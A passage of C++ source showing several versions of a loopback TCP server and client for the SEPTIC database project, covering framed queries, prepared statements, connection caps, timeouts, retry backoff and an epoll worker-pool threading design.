        SEPTIC_FAILPOINT_HOOK("net.server.send.drop") {
          open = false;
          break;
        }
        if (!send_frame(fd, reply)) {
          open = false;
          break;
        }
      }
    } catch (const FrameTooLarge& e) {
      // Declared length over the guard: reject politely, then close — the
      // stream is unrecoverable (we cannot resynchronize mid-frame).
      send_frame(fd, Frame{Opcode::kError,
                           std::string("FRAME_TOO_LARGE: ") + e.what()});
      break;
    } catch (const std::exception& e) {
      common::log_warn(std::string("net: dropping connection: ") + e.what());
      send_frame(fd, Frame{Opcode::kError,
                           std::string("PROTOCOL: ") + e.what()});
      break;
    }
  }
  // A connection that dies mid-transaction must not leave the engine
  // locked against every other session.
  db_.rollback_if_owner(session.id());
  // Close under conns_mu_ with `closed` set in the same critical section:
  // once the fd number is released to the OS it may be recycled, and
  // stop() must never shutdown() somebody else's fd.
  unregister();
}

}  // namespace septic::net

#include "net/server.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstring>
#include <unordered_map>
#include <stdexcept>

#include "common/log.h"
#include "engine/error.h"
#include "net/protocol.h"

namespace septic::net {

Server::Server(engine::Database& db, uint16_t port) : db_(db) {
  listen_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (listen_fd_ < 0) throw std::runtime_error("socket() failed");
  int one = 1;
  ::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::bind(listen_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) <
      0) {
    ::close(listen_fd_);
    throw std::runtime_error("bind() failed");
  }
  socklen_t len = sizeof(addr);
  ::getsockname(listen_fd_, reinterpret_cast<sockaddr*>(&addr), &len);
  port_ = ntohs(addr.sin_port);
  if (::listen(listen_fd_, 64) < 0) {
    ::close(listen_fd_);
    throw std::runtime_error("listen() failed");
  }
}

Server::~Server() { stop(); }

void Server::start() {
  if (running_.exchange(true)) return;
  accept_thread_ = std::thread([this] { accept_loop(); });
}

void Server::stop() {
  if (!running_.exchange(false)) return;
  ::shutdown(listen_fd_, SHUT_RDWR);
  if (accept_thread_.joinable()) accept_thread_.join();
  ::close(listen_fd_);
  listen_fd_ = -1;
  std::vector<std::thread> workers;
  {
    std::lock_guard lock(workers_mu_);
    // Wake workers blocked in recv() on still-open client connections.
    for (int fd : open_fds_) ::shutdown(fd, SHUT_RDWR);
    workers.swap(workers_);
  }
  for (auto& t : workers) {
    if (t.joinable()) t.join();
  }
}

void Server::accept_loop() {
  while (running_) {
    int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) {
      if (!running_) break;
      continue;
    }
    ++connections_;
    std::lock_guard lock(workers_mu_);
    open_fds_.push_back(fd);
    workers_.emplace_back([this, fd] { serve_connection(fd); });
  }
}

void Server::serve_connection(int fd) {
  engine::Session session("net-client");
  FrameDecoder decoder;
  // Per-connection prepared statements, like MySQL's.
  std::unordered_map<uint64_t, std::string> prepared;
  uint64_t next_stmt_id = 1;
  char buf[4096];
  bool open = true;
  while (open) {
    ssize_t n = ::recv(fd, buf, sizeof(buf), 0);
    if (n <= 0) break;
    decoder.feed(std::string_view(buf, static_cast<size_t>(n)));
    try {
      while (auto frame = decoder.next()) {
        if (frame->op == Opcode::kQuit) {
          open = false;
          break;
        }
        if (frame->op != Opcode::kQuery && frame->op != Opcode::kPrepare &&
            frame->op != Opcode::kExec) {
          continue;
        }
        Frame reply;
        try {
          engine::ResultSet rs;
          bool has_result = true;
          if (frame->op == Opcode::kPrepare) {
            uint64_t id = next_stmt_id++;
            prepared[id] = frame->payload;
            reply.op = Opcode::kOk;
            reply.payload = "stmt=" + std::to_string(id);
            has_result = false;
          } else if (frame->op == Opcode::kExec) {
            // payload: "<id>" + (0x1F + repr)*
            std::string_view body = frame->payload;
            size_t sep = body.find('\x1f');
            std::string_view id_s =
                sep == std::string_view::npos ? body : body.substr(0, sep);
            uint64_t id = std::strtoull(std::string(id_s).c_str(), nullptr, 10);
            auto it = prepared.find(id);
            if (it == prepared.end()) {
              throw engine::DbError(engine::ErrorCode::kSyntax,
                                    "unknown prepared statement id");
            }
            // Parameters are length-prefixed ("<len>:<repr-bytes>") so
            // arbitrary bytes inside string values cannot break framing.
            std::vector<sql::Value> params;
            size_t pos = sep == std::string_view::npos ? body.size() : sep + 1;
            while (pos < body.size()) {
              size_t colon = body.find(':', pos);
              if (colon == std::string_view::npos) {
                throw engine::DbError(engine::ErrorCode::kSyntax,
                                      "malformed parameter framing");
              }
              size_t len = std::strtoull(
                  std::string(body.substr(pos, colon - pos)).c_str(), nullptr,
                  10);
              if (colon + 1 + len > body.size()) {
                throw engine::DbError(engine::ErrorCode::kSyntax,
                                      "truncated parameter");
              }
              sql::Value v;
              if (!sql::Value::from_repr(body.substr(colon + 1, len), v)) {
                throw engine::DbError(engine::ErrorCode::kSyntax,
                                      "malformed parameter encoding");
              }
              params.push_back(std::move(v));
              pos = colon + 1 + len;
            }
            rs = db_.execute_prepared(session, it->second, params);
          } else {
            rs = db_.execute(session, frame->payload);
          }
          if (has_result) {
            if (rs.has_rows()) {
              reply.op = Opcode::kRows;
              reply.payload = rs.to_text();
            } else {
              reply.op = Opcode::kOk;
              reply.payload = "affected=" + std::to_string(rs.affected_rows) +
                              " last_insert_id=" +
                              std::to_string(rs.last_insert_id);
            }
          }
        } catch (const engine::DbError& e) {
          reply.op = Opcode::kError;
          reply.payload =
              std::string(engine::error_code_name(e.code())) + ": " + e.what();
        }
        std::string bytes = encode_frame(reply);
        size_t sent = 0;
        while (sent < bytes.size()) {
          ssize_t w = ::send(fd, bytes.data() + sent, bytes.size() - sent, 0);
          if (w <= 0) {
            open = false;
            break;
          }
          sent += static_cast<size_t>(w);
        }
      }
    } catch (const std::exception& e) {
      common::log_warn(std::string("net: dropping connection: ") + e.what());
      break;
    }
  }
  // A connection that dies mid-transaction must not leave the engine
  // locked against every other session.
  db_.rollback_if_owner(session.id());
  ::close(fd);
  std::lock_guard lock(workers_mu_);
  std::erase(open_fds_, fd);
}

}  // namespace septic::net

#include "net/client.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstring>

namespace septic::net {

Client::Client(uint16_t port) {
  fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd_ < 0) throw std::runtime_error("socket() failed");
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) < 0) {
    ::close(fd_);
    fd_ = -1;
    throw std::runtime_error("connect() failed");
  }
}

Client::~Client() {
  if (fd_ >= 0) {
    quit();
    ::close(fd_);
  }
}

Frame Client::roundtrip(const Frame& frame) {
  std::string bytes = encode_frame(frame);
  size_t sent = 0;
  while (sent < bytes.size()) {
    ssize_t w = ::send(fd_, bytes.data() + sent, bytes.size() - sent, 0);
    if (w <= 0) throw std::runtime_error("send() failed");
    sent += static_cast<size_t>(w);
  }
  char buf[4096];
  for (;;) {
    if (auto reply = decoder_.next()) return *reply;
    ssize_t n = ::recv(fd_, buf, sizeof(buf), 0);
    if (n <= 0) throw std::runtime_error("connection closed by server");
    decoder_.feed(std::string_view(buf, static_cast<size_t>(n)));
  }
}

std::string Client::query(std::string_view sql) {
  Frame request;
  request.op = Opcode::kQuery;
  request.payload = std::string(sql);
  Frame reply = roundtrip(request);
  if (reply.op == Opcode::kError) throw RemoteError(reply.payload);
  return reply.payload;
}

uint64_t Client::prepare(std::string_view template_sql) {
  Frame request;
  request.op = Opcode::kPrepare;
  request.payload = std::string(template_sql);
  Frame reply = roundtrip(request);
  if (reply.op == Opcode::kError) throw RemoteError(reply.payload);
  // Reply payload: "stmt=<id>".
  size_t eq = reply.payload.find('=');
  if (eq == std::string::npos) {
    throw std::runtime_error("malformed PREPARE reply");
  }
  return std::strtoull(reply.payload.c_str() + eq + 1, nullptr, 10);
}

std::string Client::execute(uint64_t stmt_id,
                            const std::vector<sql::Value>& params) {
  Frame request;
  request.op = Opcode::kExec;
  request.payload = std::to_string(stmt_id);
  request.payload += '\x1f';
  for (const auto& p : params) {
    std::string repr = p.repr();
    request.payload += std::to_string(repr.size());
    request.payload += ':';
    request.payload += repr;
  }
  Frame reply = roundtrip(request);
  if (reply.op == Opcode::kError) throw RemoteError(reply.payload);
  return reply.payload;
}

void Client::quit() {
  if (fd_ < 0) return;
  Frame f;
  f.op = Opcode::kQuit;
  std::string bytes = encode_frame(f);
  (void)::send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL);
}

}  // namespace septic::net

#include "net/client.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstring>
#include <thread>

#include "common/failpoint.h"

namespace septic::net {

Client::Client(uint16_t port, ClientOptions options)
    : port_(port), options_(options) {
  // Cheap decorrelation between concurrently created clients so their
  // retry backoffs don't thundering-herd in lockstep.
  jitter_state_ = static_cast<uint64_t>(
                      std::chrono::steady_clock::now().time_since_epoch().count()) ^
                  (reinterpret_cast<uintptr_t>(this) << 16);
  connect();
}

Client::~Client() {
  if (fd_ >= 0) {
    quit();
    ::close(fd_);
  }
}

void Client::connect() {
  SEPTIC_FAILPOINT("net.client.connect");
  fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd_ < 0) throw std::runtime_error("socket() failed");
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port_);

  if (options_.connect_timeout_ms > 0) {
    // Non-blocking connect + poll so a dead server costs a bounded wait,
    // not the OS's multi-minute SYN retry schedule.
    int flags = ::fcntl(fd_, F_GETFL, 0);
    ::fcntl(fd_, F_SETFL, flags | O_NONBLOCK);
    int rc = ::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr));
    if (rc < 0 && errno == EINPROGRESS) {
      pollfd pfd{fd_, POLLOUT, 0};
      rc = ::poll(&pfd, 1, options_.connect_timeout_ms);
      if (rc == 0) {
        close_fd();
        throw std::runtime_error("connect() timed out");
      }
      int err = 0;
      socklen_t len = sizeof(err);
      if (rc < 0 ||
          ::getsockopt(fd_, SOL_SOCKET, SO_ERROR, &err, &len) < 0 || err != 0) {
        close_fd();
        throw std::runtime_error("connect() failed");
      }
    } else if (rc < 0) {
      close_fd();
      throw std::runtime_error("connect() failed");
    }
    ::fcntl(fd_, F_SETFL, flags);
  } else if (::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) <
             0) {
    close_fd();
    throw std::runtime_error("connect() failed");
  }

  if (options_.io_timeout_ms > 0) {
    timeval tv{};
    tv.tv_sec = options_.io_timeout_ms / 1000;
    tv.tv_usec = (options_.io_timeout_ms % 1000) * 1000;
    ::setsockopt(fd_, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
    ::setsockopt(fd_, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
  }
}

void Client::close_fd() {
  if (fd_ >= 0) ::close(fd_);
  fd_ = -1;
  decoder_ = FrameDecoder{};  // drop any half-received frame
  pending_ = 0;               // owed replies died with the connection
}

void Client::reconnect() {
  close_fd();
  connect();
}

void Client::send_frame(const Frame& frame) {
  if (fd_ < 0) throw std::runtime_error("not connected");
  std::string bytes = encode_frame(frame);
  size_t sent = 0;
  while (sent < bytes.size()) {
    SEPTIC_FAILPOINT("net.client.send");
    ssize_t w =
        ::send(fd_, bytes.data() + sent, bytes.size() - sent, MSG_NOSIGNAL);
    if (w < 0 && errno == EINTR) continue;  // a signal is not a dead peer
    if (w <= 0) throw std::runtime_error("send() failed");
    sent += static_cast<size_t>(w);
  }
}

Frame Client::recv_frame() {
  if (fd_ < 0) throw std::runtime_error("not connected");
  char buf[4096];
  for (;;) {
    if (auto reply = decoder_.next()) return *reply;
    SEPTIC_FAILPOINT("net.client.recv");
    ssize_t n = ::recv(fd_, buf, sizeof(buf), 0);
    if (n < 0 && errno == EINTR) continue;
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
      throw std::runtime_error("recv() timed out");
    }
    if (n <= 0) throw std::runtime_error("connection closed by server");
    decoder_.feed(std::string_view(buf, static_cast<size_t>(n)));
  }
}

Frame Client::roundtrip(const Frame& frame) {
  send_frame(frame);
  return recv_frame();
}

std::string Client::query(std::string_view sql) {
  Frame request;
  request.op = Opcode::kQuery;
  request.payload = std::string(sql);
  Frame reply = roundtrip(request);
  if (reply.op == Opcode::kError) throw RemoteError(reply.payload);
  return reply.payload;
}

std::string Client::query_with_retry(std::string_view sql,
                                     const RetryPolicy& policy) {
  int backoff = policy.base_backoff_ms;
  for (int attempt = 1;; ++attempt) {
    std::string last_error;
    try {
      if (fd_ < 0) connect();
      return query(sql);
    } catch (const RemoteError& e) {
      // The server answered. A verdict — BLOCKED above all — is final;
      // only the connection-cap BUSY reply is a transient condition.
      if (!e.busy()) throw;
      last_error = e.what();
      close_fd();  // the server closes its side after a BUSY reply
    } catch (const std::runtime_error& e) {
      // Transport fault: dead socket, timeout, mid-frame close.
      last_error = e.what();
      close_fd();
    }
    if (attempt >= policy.max_attempts) {
      throw std::runtime_error("query failed after " +
                               std::to_string(attempt) +
                               " attempts: " + last_error);
    }
    // Capped exponential backoff, jittered into [backoff/2, backoff] so a
    // fleet of retrying clients spreads out instead of stampeding.
    int cap = backoff < policy.max_backoff_ms ? backoff : policy.max_backoff_ms;
    jitter_state_ = jitter_state_ * 6364136223846793005ull + 1442695040888963407ull;
    int sleep_ms = cap <= 1 ? cap
                            : cap / 2 + static_cast<int>((jitter_state_ >> 33) %
                                                         (cap - cap / 2 + 1));
    if (sleep_ms > 0) {
      std::this_thread::sleep_for(std::chrono::milliseconds(sleep_ms));
    }
    if (backoff < policy.max_backoff_ms) backoff *= 2;
    ++retries_;
  }
}

uint64_t Client::prepare(std::string_view template_sql) {
  Frame request;
  request.op = Opcode::kPrepare;
  request.payload = std::string(template_sql);
  Frame reply = roundtrip(request);
  if (reply.op == Opcode::kError) throw RemoteError(reply.payload);
  // Reply payload: "stmt=<id>".
  size_t eq = reply.payload.find('=');
  if (eq == std::string::npos) {
    throw std::runtime_error("malformed PREPARE reply");
  }
  return std::strtoull(reply.payload.c_str() + eq + 1, nullptr, 10);
}

namespace {

Frame make_exec_frame(uint64_t stmt_id, const std::vector<sql::Value>& params) {
  Frame request;
  request.op = Opcode::kExec;
  request.payload = std::to_string(stmt_id);
  request.payload += '\x1f';
  for (const auto& p : params) {
    std::string repr = p.repr();
    request.payload += std::to_string(repr.size());
    request.payload += ':';
    request.payload += repr;
  }
  return request;
}

}  // namespace

std::string Client::execute(uint64_t stmt_id,
                            const std::vector<sql::Value>& params) {
  Frame reply = roundtrip(make_exec_frame(stmt_id, params));
  if (reply.op == Opcode::kError) throw RemoteError(reply.payload);
  return reply.payload;
}

void Client::close_stmt(uint64_t stmt_id) {
  Frame request;
  request.op = Opcode::kStmtClose;
  request.payload = std::to_string(stmt_id);
  Frame reply = roundtrip(request);
  if (reply.op == Opcode::kError) throw RemoteError(reply.payload);
}

void Client::post_query(std::string_view sql) {
  Frame request;
  request.op = Opcode::kQuery;
  request.payload = std::string(sql);
  send_frame(request);
  ++pending_;
}

void Client::post_execute(uint64_t stmt_id,
                          const std::vector<sql::Value>& params) {
  send_frame(make_exec_frame(stmt_id, params));
  ++pending_;
}

std::string Client::read_reply() {
  if (pending_ == 0) throw std::runtime_error("no pipelined reply pending");
  Frame reply = recv_frame();
  --pending_;
  if (reply.op == Opcode::kError) throw RemoteError(reply.payload);
  return reply.payload;
}

void Client::quit() {
  if (fd_ < 0) return;
  Frame f;
  f.op = Opcode::kQuit;
  std::string bytes = encode_frame(f);
  (void)::send(fd_, bytes.data(), bytes.size(), MSG_NOSIGNAL);
}

}  // namespace septic::net

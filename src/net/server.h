// TCP server exposing a Database (and whatever interceptor — SEPTIC — is
// installed in it) to remote clients. Sessions are per-connection, like
// MySQL's.
//
// Threading model: one epoll readiness loop owns every socket; a fixed
// pool of workers owns every engine call. Connections are state objects,
// not threads — the loop does nonblocking reads, feeds each connection's
// frame decoder, and hands a connection to the pool only when it has
// complete request frames. A claimed connection is serviced by exactly one
// worker at a time (its Session, transaction state, and prepared-statement
// registry are single-threaded by construction), and replies go out in
// request order, so clients may pipeline any number of frames per
// round-trip. Idle connections cost a registry entry and an epoll
// registration — no thread, no stack — so the server holds thousands of
// them where the old thread-pinned model held worker_threads.
//
// Claim protocol (the only cross-thread handshake, all leaf locks):
//   - loop: append decoded frames to conn->requests under conn->mu_; if
//     the connection is unclaimed, set claimed and enqueue it (queue_mu_).
//   - worker: drain requests batch-by-batch under conn->mu_; when a drain
//     finds the queue empty, unclaim UNDER THE SAME LOCK — the loop's
//     append either sees claimed (worker will re-check) or claims anew, so
//     no frame is ever stranded.
//   - worker flushes replies opportunistically (nonblocking send under
//     conn->mu_); leftover bytes are the loop's job via EPOLLOUT, requested
//     through the eventfd notify queue (notify_mu_).
//   - teardown is loop-only: finalize() first observes claimed == false
//     under conn->mu_, so it never races a worker.
//
// Prepared statements are real server-side handles (engine/prepared.h):
// PREPARE compiles and verdicts the template once — a blocked template is
// refused before any id exists — and EXEC binds and runs with no
// re-verdict. The per-connection registry is bounded: explicit STMT_CLOSE
// deallocates, and past max_prepared_per_connection the least-recently
// EXECed handle is evicted (the old unbounded map let one client OOM the
// server).
//
// Hardening: a max-concurrent-connections cap (excess connections get a
// polite BUSY error frame and a close), idle sweeps driven by the epoll
// timeout, a per-frame size guard (oversized frames are rejected before
// their payload is buffered), and capped exponential backoff when accept()
// fails persistently (EMFILE/ENFILE) — the loop must degrade to slow, not
// to a 100%-CPU spin.
#pragma once

#include <atomic>
#include <chrono>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <list>
#include <memory>
#include <mutex>
#include <thread>
#include <unordered_map>
#include <vector>

#include "common/thread_annotations.h"
#include "engine/database.h"
#include "engine/session.h"
#include "net/protocol.h"

namespace septic::net {

struct ServerOptions {
  /// Concurrent connections served; further connections are answered with
  /// an ERROR frame ("BUSY: ...") and closed. 0 = unlimited.
  size_t max_connections = 256;
  /// Idle deadline in milliseconds: a connection with no traffic, no
  /// pending work, and no unclaimed replies for this long is closed by the
  /// loop's sweep. 0 = no timeout.
  int idle_timeout_ms = 0;
  /// Per-frame size guard for this server's connections.
  uint32_t max_frame_size = FrameDecoder::kMaxFrameSize;
  /// Pooled worker threads running engine calls for claimed connections.
  /// Connections no longer pin a thread, so this sizes CPU parallelism,
  /// not capacity; values < 1 are treated as 1.
  size_t worker_threads = 8;
  /// Cap on live prepared statements per connection. Past it, the
  /// least-recently-executed handle is evicted to make room (clients that
  /// care use STMT_CLOSE). Minimum 1.
  size_t max_prepared_per_connection = 64;
};

/// One live connection's whole state. Socket-plane fields (decoder, idle
/// clock, epoll bookkeeping) belong to the loop thread; engine-plane
/// fields (session, prepared registry) belong to whichever worker holds
/// the claim — the claim handoff through mu_ orders them. Only the fields
/// annotated with mu_ are ever touched from both sides.
struct Connection {
  explicit Connection(int fd_in) : fd(fd_in), session("net-client") {}
  ~Connection();

  Connection(const Connection&) = delete;
  Connection& operator=(const Connection&) = delete;

  int fd = -1;

  // --- loop-thread-only ------------------------------------------------
  FrameDecoder decoder;
  std::chrono::steady_clock::time_point last_activity{};
  uint32_t epoll_events = 0;  // currently armed event mask
  bool finalized = false;     // torn down; late notifies must skip it

  // --- worker-only while claimed (handoff ordered by mu_) --------------
  engine::Session session;
  /// Prepared registry: id -> handle, with an LRU list for cap eviction
  /// (lru is most-recent-first; each entry holds its list position).
  struct PreparedEntry {
    engine::PreparedStatementPtr stmt;
    std::list<uint64_t>::iterator lru_pos;
  };
  std::unordered_map<uint64_t, PreparedEntry> prepared;
  std::list<uint64_t> lru;
  uint64_t next_stmt_id = 1;

  // --- shared (leaf lock; never held while taking another) -------------
  std::mutex mu_;
  /// Complete request frames awaiting a worker, in arrival order.
  std::deque<Frame> requests SEPTIC_GUARDED_BY(mu_);
  /// Encoded reply bytes not yet accepted by the kernel.
  std::string out SEPTIC_GUARDED_BY(mu_);
  /// True while a worker owns this connection's engine plane.
  bool claimed SEPTIC_GUARDED_BY(mu_) = false;
  /// Peer EOF / read error seen by the loop: no further requests.
  bool peer_closed SEPTIC_GUARDED_BY(mu_) = false;
  /// Orderly shutdown requested (QUIT, protocol error): flush out, close.
  bool closing SEPTIC_GUARDED_BY(mu_) = false;
  /// Hard teardown (send failure, fault injection): close without flush.
  bool dead SEPTIC_GUARDED_BY(mu_) = false;
};

class Server {
 public:
  /// Bind to 127.0.0.1:port (port 0 = ephemeral; see port()).
  Server(engine::Database& db, uint16_t port);
  Server(engine::Database& db, uint16_t port, ServerOptions options);
  ~Server();

  Server(const Server&) = delete;
  Server& operator=(const Server&) = delete;

  /// Start the epoll loop and the worker pool in background threads.
  void start();
  /// Stop accepting, wake and join the loop, drain and join the workers,
  /// tear down every remaining connection (open transactions roll back).
  void stop();

  uint16_t port() const { return port_; }
  const ServerOptions& options() const { return options_; }

  uint64_t connections_served() const { return connections_; }
  /// Connections turned away by the max_connections cap.
  uint64_t connections_rejected() const { return rejected_; }
  /// Connections currently registered with the loop (idle ones included).
  size_t active_connections() const { return active_; }
  /// accept() failures survived with backoff (EMFILE/ENFILE pressure).
  uint64_t accept_failures() const { return accept_failures_; }

 private:
  void loop_body();
  void worker_body();

  // --- loop-side handlers (loop thread only) ---------------------------
  void handle_accept();
  void handle_readable(const std::shared_ptr<Connection>& conn);
  void handle_writable(const std::shared_ptr<Connection>& conn);
  void handle_notifies();
  void sweep_idle();
  /// Re-examine a connection after worker activity or a read: arm/disarm
  /// EPOLLOUT, tear down when it is dead or drained-and-closing.
  void reconcile(const std::shared_ptr<Connection>& conn);
  void arm(const std::shared_ptr<Connection>& conn, uint32_t events);
  /// Tear down now. Returns false (and does nothing) while a worker still
  /// holds the claim — the worker's completion notify retries it.
  bool finalize(const std::shared_ptr<Connection>& conn);
  int epoll_timeout_ms() const;

  // --- worker-side -----------------------------------------------------
  /// Service one claimed connection until its request queue drains.
  void serve(const std::shared_ptr<Connection>& conn);
  Frame handle_frame(Connection& conn, const Frame& frame, bool& quit);
  /// Nonblocking flush of conn->out. Returns false on a fatal send error
  /// (the caller marks the connection dead).
  bool flush_some(Connection& conn) SEPTIC_REQUIRES(conn.mu_);
  /// Ask the loop to reconcile `conn` (arm EPOLLOUT / tear down).
  void notify_loop(const std::shared_ptr<Connection>& conn);

  engine::Database& db_;
  ServerOptions options_;
  int listen_fd_ = -1;
  int epoll_fd_ = -1;
  int wake_fd_ = -1;  // eventfd: workers/stop() wake the epoll loop
  uint16_t port_ = 0;
  std::thread loop_thread_;
  std::vector<std::thread> workers_;

  /// Loop-thread-only connection registry, keyed by fd.
  std::unordered_map<int, std::shared_ptr<Connection>> conns_;

  /// Accept-failure backoff (loop-thread-only): while now < deadline the
  /// listen fd is deregistered from epoll.
  int accept_backoff_ms_ = 0;
  std::chrono::steady_clock::time_point accept_retry_at_{};
  bool listen_armed_ = false;

  // Work queue: claimed connections awaiting a worker.
  std::mutex queue_mu_;
  std::condition_variable queue_cv_;
  std::deque<std::shared_ptr<Connection>> work_ SEPTIC_GUARDED_BY(queue_mu_);

  // Notify queue: connections whose post-worker state the loop must look
  // at (flush residue, teardown). Paired with a wake_fd_ write.
  std::mutex notify_mu_;
  std::vector<std::shared_ptr<Connection>> notify_ SEPTIC_GUARDED_BY(notify_mu_);

  std::atomic<bool> running_{false};
  std::atomic<uint64_t> connections_{0};
  std::atomic<uint64_t> rejected_{0};
  std::atomic<size_t> active_{0};
  std::atomic<uint64_t> accept_failures_{0};
};

}  // namespace septic::net

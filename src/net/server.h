// TCP server exposing a Database (and whatever interceptor — SEPTIC — is
// installed in it) to remote clients. Thread-per-connection; sessions are
// per-connection, like MySQL's.
#pragma once

#include <atomic>
#include <cstdint>
#include <thread>
#include <vector>

#include "engine/database.h"

namespace septic::net {

class Server {
 public:
  /// Bind to 127.0.0.1:port (port 0 = ephemeral; see port()).
  Server(engine::Database& db, uint16_t port);
  ~Server();

  Server(const Server&) = delete;
  Server& operator=(const Server&) = delete;

  /// Start the accept loop in a background thread.
  void start();
  /// Stop accepting, close the listener, join all connection threads.
  void stop();

  uint16_t port() const { return port_; }
  uint64_t connections_served() const { return connections_; }

 private:
  void accept_loop();
  void serve_connection(int fd);

  engine::Database& db_;
  int listen_fd_ = -1;
  uint16_t port_ = 0;
  std::thread accept_thread_;
  std::vector<std::thread> workers_;
  std::vector<int> open_fds_;  // live connection sockets (for stop())
  std::mutex workers_mu_;
  std::atomic<bool> running_{false};
  std::atomic<uint64_t> connections_{0};
};

}  // namespace septic::net

// TCP server exposing a Database (and whatever interceptor — SEPTIC — is
// installed in it) to remote clients. Thread-per-connection; sessions are
// per-connection, like MySQL's.
//
// Hardening (an in-path defense must not be the easiest thing to knock
// over): a max-concurrent-connections cap (excess connections get a polite
// BUSY error frame and a close), per-connection idle timeouts
// (SO_RCVTIMEO/SO_SNDTIMEO), and a per-frame size guard (oversized frames
// are rejected before their payload is buffered).
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <mutex>
#include <thread>
#include <vector>

#include "engine/database.h"
#include "net/protocol.h"

namespace septic::net {

struct ServerOptions {
  /// Concurrent connections served; further connections are answered with
  /// an ERROR frame ("BUSY: ...") and closed. 0 = unlimited.
  size_t max_connections = 256;
  /// Per-connection socket idle timeout in milliseconds (applied as both
  /// SO_RCVTIMEO and SO_SNDTIMEO). A connection idle past it is closed.
  /// 0 = no timeout.
  int idle_timeout_ms = 0;
  /// Per-frame size guard for this server's connections.
  uint32_t max_frame_size = FrameDecoder::kMaxFrameSize;
};

class Server {
 public:
  /// Bind to 127.0.0.1:port (port 0 = ephemeral; see port()).
  Server(engine::Database& db, uint16_t port);
  Server(engine::Database& db, uint16_t port, ServerOptions options);
  ~Server();

  Server(const Server&) = delete;
  Server& operator=(const Server&) = delete;

  /// Start the accept loop in a background thread.
  void start();
  /// Stop accepting, close the listener, join all connection threads.
  void stop();

  uint16_t port() const { return port_; }
  const ServerOptions& options() const { return options_; }

  uint64_t connections_served() const { return connections_; }
  /// Connections turned away by the max_connections cap.
  uint64_t connections_rejected() const { return rejected_; }
  /// Connections currently being served.
  size_t active_connections() const { return active_; }

 private:
  // One live connection, owned by the registry (conns_), never by the
  // worker. The worker thread is the only closer of its fd, and it closes
  // while holding conns_mu_ with `closed` set in the same critical
  // section — so stop(), which shutdown()s still-open fds under the same
  // lock, can never touch an fd number the OS has recycled. `done` marks
  // the worker finished so the accept loop can reap its thread while the
  // server keeps running.
  struct Conn {
    int fd = -1;
    std::thread thread;
    bool closed = false;  // guarded by conns_mu_
    std::atomic<bool> done{false};
  };

  void accept_loop();
  void serve_connection(Conn& conn);
  void reap_finished_locked();

  engine::Database& db_;
  ServerOptions options_;
  int listen_fd_ = -1;
  uint16_t port_ = 0;
  std::thread accept_thread_;
  std::vector<std::unique_ptr<Conn>> conns_;
  std::mutex conns_mu_;
  std::atomic<bool> running_{false};
  std::atomic<uint64_t> connections_{0};
  std::atomic<uint64_t> rejected_{0};
  std::atomic<size_t> active_{0};
};

}  // namespace septic::net

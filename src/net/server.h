// TCP server exposing a Database (and whatever interceptor — SEPTIC — is
// installed in it) to remote clients. Sessions are per-connection, like
// MySQL's.
//
// Threading model: a fixed pool of `worker_threads` pooled workers pulls
// accepted sockets from an accept queue, so steady-state traffic creates
// and destroys no threads at all (the old thread-per-connection model paid
// a spawn/join per connection and was unbounded). A connection occupies
// its worker for its whole life — blocking reads keep the per-connection
// code straight-line — so when every pooled worker is occupied and another
// connection arrives, a transient *overflow* worker is spawned for it and
// exits once the queue is drained again. Total live threads are therefore
// bounded by max_connections, and a burst beyond the pool degrades to
// exactly the old behavior rather than to queueing latency.
//
// Hardening (an in-path defense must not be the easiest thing to knock
// over): a max-concurrent-connections cap (excess connections get a polite
// BUSY error frame and a close), per-connection idle timeouts
// (SO_RCVTIMEO/SO_SNDTIMEO), a per-frame size guard (oversized frames are
// rejected before their payload is buffered), and capped exponential
// backoff when accept() itself fails persistently (EMFILE/ENFILE) — the
// accept loop must degrade to slow, not to a 100%-CPU spin.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <memory>
#include <mutex>
#include <thread>
#include <vector>

#include "common/thread_annotations.h"
#include "engine/database.h"
#include "net/protocol.h"

namespace septic::net {

struct ServerOptions {
  /// Concurrent connections served; further connections are answered with
  /// an ERROR frame ("BUSY: ...") and closed. 0 = unlimited.
  size_t max_connections = 256;
  /// Per-connection socket idle timeout in milliseconds (applied as both
  /// SO_RCVTIMEO and SO_SNDTIMEO). A connection idle past it is closed.
  /// 0 = no timeout.
  int idle_timeout_ms = 0;
  /// Per-frame size guard for this server's connections.
  uint32_t max_frame_size = FrameDecoder::kMaxFrameSize;
  /// Pooled worker threads serving connections from the accept queue.
  /// Connections beyond this are served by transient overflow threads
  /// (bounded by max_connections), so the pool size tunes thread reuse,
  /// never availability. 0 = no pool (every connection overflows — the old
  /// thread-per-connection behavior).
  size_t worker_threads = 8;
};

class Server {
 public:
  /// Bind to 127.0.0.1:port (port 0 = ephemeral; see port()).
  Server(engine::Database& db, uint16_t port);
  Server(engine::Database& db, uint16_t port, ServerOptions options);
  ~Server();

  Server(const Server&) = delete;
